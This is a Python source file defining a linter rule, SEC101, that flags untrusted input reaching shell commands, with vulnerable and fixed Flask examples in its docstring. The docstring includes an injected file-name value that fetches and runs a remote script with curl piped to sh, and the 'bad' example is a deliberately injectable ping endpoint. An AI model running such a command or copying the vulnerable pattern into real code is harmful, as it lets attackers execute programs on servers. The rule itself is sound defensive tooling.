"""Reports untrusted data in the text of a command or the name of a program."""

from __future__ import annotations

from typing import TYPE_CHECKING

from charter.api import Severity, rule
from charter.api.facts.taint import TaintFlow
from charter_rules import flows
from charter_rules.flow_fixes import argument_list

if TYPE_CHECKING:
    from collections.abc import Iterator

    from charter.api import Context, Finding


@rule(
    TaintFlow,
    code="SEC101",
    principles=("command-injection",),
    severity=Severity.CRITICAL,
    aliases=("B604", "B601", "S604", "S601"),
    cwe=(78,),
    kinds=("command",),
    references=(
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
        "https://cwe.mitre.org/data/definitions/78.html",
    ),
)
def command_injection(flow: TaintFlow, ctx: Context) -> Iterator[Finding]:
    """Keep untrusted text out of command lines.

    A shell reads `;`, `$( )`, backquotes and newlines in its text as orders: `x; curl evil.sh | sh` as a file name
    runs a second program with all the rights of this one. Pass a list of arguments and no shell reads them; put
    `--` before those that could begin with a dash.

    ```python bad
    import subprocess
    from flask import Flask, request

    app = Flask(__name__)

    @app.get("/ping")
    def ping():
        host = request.args["host"]
        done = subprocess.run(f"ping -c 1 {host}", shell=True, check=False)
    #                         ^^^^^^^^^^^^^^^^^^^ `request.args["host"]` becomes part of the command that `run` starts
        return {"code": done.returncode}
    ```
    ```python fixed
    import subprocess
    from flask import Flask, request

    app = Flask(__name__)

    @app.get("/ping")
    def ping():
        host = request.args["host"]
        done = subprocess.run(["ping", "-c", "1", host], check=False)
        return {"code": done.returncode}
    ```
    ```python good
    import shlex
    import subprocess
    from flask import Flask, request

    app = Flask(__name__)

    @app.get("/lines")
    def lines():
        name = shlex.quote(request.args["name"])
        return subprocess.run(f"sort -- {name} | uniq -c", shell=True, capture_output=True, check=True).stdout
    ```
    """
    yield flows.finding(
        flow,
        ctx,
        f"becomes part of the command that `{flows.api(flow)}` starts",
        Severity.CRITICAL,
        (argument_list(flow, ctx),),
    )
